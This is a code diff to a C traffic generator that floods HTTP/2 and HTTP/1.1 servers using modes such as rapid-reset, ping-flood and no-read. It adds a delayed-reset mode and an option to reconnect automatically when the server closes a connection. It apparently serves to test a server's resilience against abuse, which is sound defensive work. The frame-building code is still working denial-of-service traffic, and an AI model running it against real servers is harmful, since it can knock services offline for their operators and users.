@@ -14,6 +14,7 @@
  *
  * MODE is one of
  *   rapid-reset   HTTP/2: HEADERS for PATH then RST_STREAM, as fast as it can
+ *   reset-late    HTTP/2: HEADERS for PATH, and its RST_STREAM 5 ms later, one after another
  *   ping-flood    HTTP/2: PING frames, never reading the acks
  *   settings-flood HTTP/2: SETTINGS frames
  *   empty-data    HTTP/2: a request with a body that never comes, and empty DATA frames
@@ -25,7 +26,9 @@
  *   idle          HTTP/1.1: connects and sends nothing
  *   no-read       HTTP/1.1: pipelines requests for PATH and never reads an answer
  *
- * HEADER is one "name: value" added to every request (an API key).
+ * HEADER is one "name: value" added to every request (an API key). With ABUSE_RECONNECT=1
+ * in the environment, a connection the server closes is opened again (a persistent
+ * attacker), and "closed" counts every close.
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -159,6 +162,7 @@ static int is_h2(void)
 
 static int connect_to(const struct addrinfo *ai, conn_t *c)
 {
+    memset(c, 0, sizeof(*c));
     c->fd = socket(ai->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
     if (c->fd < 0 || connect(c->fd, ai->ai_addr, ai->ai_addrlen) != 0) {
         if (c->fd >= 0)
@@ -251,6 +255,20 @@ static void act(conn_t *c, uint64_t now)
             c->next_stream += 2;
             ++requests;
         }
+    } else if (strcmp(mode, "reset-late") == 0) {
+        /* a request, and its reset 5 ms later in a packet of its own: the call has started */
+        if (c->sent == 0) {
+            size_t hl = header_block(p + 9, 0);
+            frame(p, hl, 1, 0x5, c->next_stream), n = 9 + hl;
+            ++requests;
+            c->sent = 1;
+        } else {
+            n = frame(p, 4, 3, 0, c->next_stream);
+            p[n++] = 0, p[n++] = 0, p[n++] = 0, p[n++] = 8;
+            c->next_stream += 2;
+            c->sent = 0;
+        }
+        c->next_at_ms = now + 5;
     } else if (strcmp(mode, "ping-flood") == 0) {
         for (int i = 0; i != 200; ++i) {
             n += frame(p + n, 8, 6, 0, 0);
@@ -357,12 +375,19 @@ int main(int argc, char **argv)
         epoll_ctl(ep, EPOLL_CTL_ADD, conns[i].fd, &ev);
     }
     int reads = strcmp(mode, "no-read") != 0 && strcmp(mode, "ping-flood") != 0;
+    const char *again = getenv("ABUSE_RECONNECT");
+    int reconnect = again != NULL && strcmp(again, "1") == 0;
     uint64_t end = now_ms() + (uint64_t)seconds * 1000;
     for (uint64_t now = now_ms(); now < end; now = now_ms()) {
         int left = 0;
-        for (int i = 0; i != nconns; ++i)
+        for (int i = 0; i != nconns; ++i) {
+            if (!conns[i].open && reconnect && connect_to(ai, &conns[i]) == 0) {
+                struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP, .data.ptr = &conns[i]};
+                epoll_ctl(ep, EPOLL_CTL_ADD, conns[i].fd, &ev);
+            }
             if (conns[i].open)
                 act(&conns[i], now), left += conns[i].open;
+        }
         if (left == 0)
             break;
         struct epoll_event evs[256];
